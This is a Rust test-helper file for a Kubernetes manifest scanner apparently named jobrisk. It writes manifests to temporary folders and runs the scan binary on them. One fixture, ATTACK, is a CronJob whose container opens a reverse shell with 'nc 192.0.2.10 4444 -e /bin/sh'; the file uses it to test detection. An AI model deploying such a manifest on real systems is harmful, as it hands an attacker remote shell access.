//! A folder with manifests, and the binary run in it.

use std::fs;
use std::io::Write as _;
use std::path::PathBuf;
use std::process::{Command, Stdio};

use serde_json::Value;

/// A reverse shell: at least High.
pub(crate) const ATTACK: &str = "\
apiVersion: batch/v1
kind: CronJob
metadata: {name: shell, namespace: shop}
spec:
  schedule: '0 3 * * *'
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers:
          - name: main
            image: registry.example.test/tool:1
            command: [nc, 192.0.2.10, '4444', -e, /bin/sh]
";

/// Nothing to say about it.
pub(crate) const BENIGN: &str = "\
apiVersion: batch/v1
kind: Job
metadata: {name: report}
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
      - name: main
        image: registry.example.test/report:1
        args: [--daily]
";

pub(crate) struct Folder(tempfile::TempDir);

/// What a run printed.
#[derive(Debug)]
pub(crate) struct Output {
    pub(crate) code: i32,
    pub(crate) stdout: String,
    pub(crate) stderr: String,
}

impl Output {
    pub(crate) fn json(&self) -> Value {
        serde_json::from_str(&self.stdout).unwrap_or_else(|error| panic!("{error}: {self:?}"))
    }

    /// Kind, name and place of all workloads: `Job report a.yaml:1`.
    pub(crate) fn workloads(&self) -> Vec<String> {
        self.json()["workloads"]
            .as_array()
            .unwrap()
            .iter()
            .map(|workload| {
                let text = |value: &Value| value.as_str().unwrap().to_owned();
                let source = &workload["source"];
                format!(
                    "{} {} {}:{}",
                    text(&workload["kind"]),
                    text(&workload["name"]),
                    text(&source["file"]),
                    source["line"]
                )
            })
            .collect()
    }
}

impl Folder {
    pub(crate) fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    /// A folder with these files.
    pub(crate) fn with(files: &[(&str, &str)]) -> Self {
        let folder = Self::new();
        for (name, content) in files {
            folder.write(name, content);
        }
        folder
    }

    pub(crate) fn path(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }

    pub(crate) fn write(&self, name: &str, content: impl AsRef<[u8]>) {
        let path = self.path(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    }

    /// `jobrisk scan` in this folder.
    pub(crate) fn scan(&self, arguments: &[&str]) -> Output {
        self.scan_with(arguments, "")
    }

    /// `jobrisk scan` in this folder with something on standard input.
    pub(crate) fn scan_with(&self, arguments: &[&str], input: &str) -> Output {
        let mut child = Command::new(env!("CARGO_BIN_EXE_jobrisk"))
            .arg("scan")
            .args(arguments)
            .current_dir(self.0.path())
            .env_remove("NO_COLOR")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        let input = input.to_owned();
        // A run that does not read it closes the pipe.
        let writer = std::thread::spawn(move || drop(stdin.write_all(input.as_bytes())));
        let output = child.wait_with_output().unwrap();
        writer.join().unwrap();
        Output {
            code: output.status.code().unwrap_or_else(|| panic!("ended by a signal: {output:?}")),
            stdout: String::from_utf8(output.stdout).unwrap(),
            stderr: String::from_utf8(output.stderr).unwrap(),
        }
    }
}

/// All workloads as JSON.
pub(crate) const JSON: &[&str] = &["--format", "json", "."];
